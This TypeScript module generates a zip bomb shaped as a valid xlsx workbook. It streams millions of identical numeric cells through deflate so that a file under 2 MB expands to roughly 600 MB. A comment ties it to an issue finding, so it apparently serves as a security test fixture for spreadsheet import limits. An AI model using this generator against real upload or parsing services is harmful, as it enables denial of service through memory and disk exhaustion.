import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import zlib from 'node:zlib';

const CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`;
const RELS = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`;
const WORKBOOK = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="管控对象" sheetId="1" r:id="rId1"/></sheets></workbook>`;
const WORKBOOK_RELS = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`;

interface Part {
  name: Buffer;
  method: 0 | 8;
  crc: number;
  size: number;
  data: Buffer;
}

const stored = (name: string, text: string): Part => {
  const data = Buffer.from(text);
  return { name: Buffer.from(name), method: 0, crc: zlib.crc32(data), size: data.length, data };
};

/** The sheet XML, deflated as it is produced (native zlib: hundreds of MB in seconds, never held whole). */
async function deflatedSheet(rows: number, columns: number): Promise<Part> {
  const head = Buffer.from('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>');
  const tail = Buffer.from('</sheetData></worksheet>');
  const cells = '<c t="n"><v>1</v></c>'.repeat(columns);
  let crc = 0;
  let size = 0;
  const rowXml = (r: number) => Buffer.from(`<row r="${r}">${cells}</row>`);
  function* xml() {
    for (const part of (function* () {
      yield head;
      for (let r = 1; r <= rows; r++) yield rowXml(r);
      yield tail;
    })()) {
      crc = zlib.crc32(part, crc);
      size += part.length;
      yield part;
    }
  }
  const out: Buffer[] = [];
  const deflate = zlib.createDeflateRaw({ level: 6 });
  deflate.on('data', (d: Buffer) => out.push(d));
  await pipeline(Readable.from(xml()), deflate);
  return { name: Buffer.from('xl/worksheets/sheet1.xml'), method: 8, crc, size, data: Buffer.concat(out) };
}

/** A zip of the parts (local headers, data, central directory), as any spreadsheet program writes one. */
function zipOf(parts: Part[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const p of parts) {
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(p.method, 8);
    local.writeUInt32LE(p.crc >>> 0, 14);
    local.writeUInt32LE(p.data.length, 18);
    local.writeUInt32LE(p.size, 22);
    local.writeUInt16LE(p.name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(p.method, 10);
    central.writeUInt32LE(p.crc >>> 0, 16);
    central.writeUInt32LE(p.data.length, 20);
    central.writeUInt32LE(p.size, 24);
    central.writeUInt16LE(p.name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, p.name, p.data);
    centrals.push(central, p.name);
    offset += 30 + p.name.length + p.data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

/**
 * A zip bomb shaped as a workbook (issue 11, finding 7): a valid xlsx whose one sheet, 管控对象,
 * holds `rows` × `columns` numeric cells. Deflate squeezes the repeated rows ~1000:1, so 30
 * million cells (600 MB of XML) make a file of well under 2 MB.
 */
export async function buildXlsxBomb(input: { rows: number; columns: number }): Promise<Buffer> {
  return zipOf([
    stored('[Content_Types].xml', CONTENT_TYPES),
    stored('_rels/.rels', RELS),
    stored('xl/workbook.xml', WORKBOOK),
    stored('xl/_rels/workbook.xml.rels', WORKBOOK_RELS),
    await deflatedSheet(input.rows, input.columns),
  ]);
}
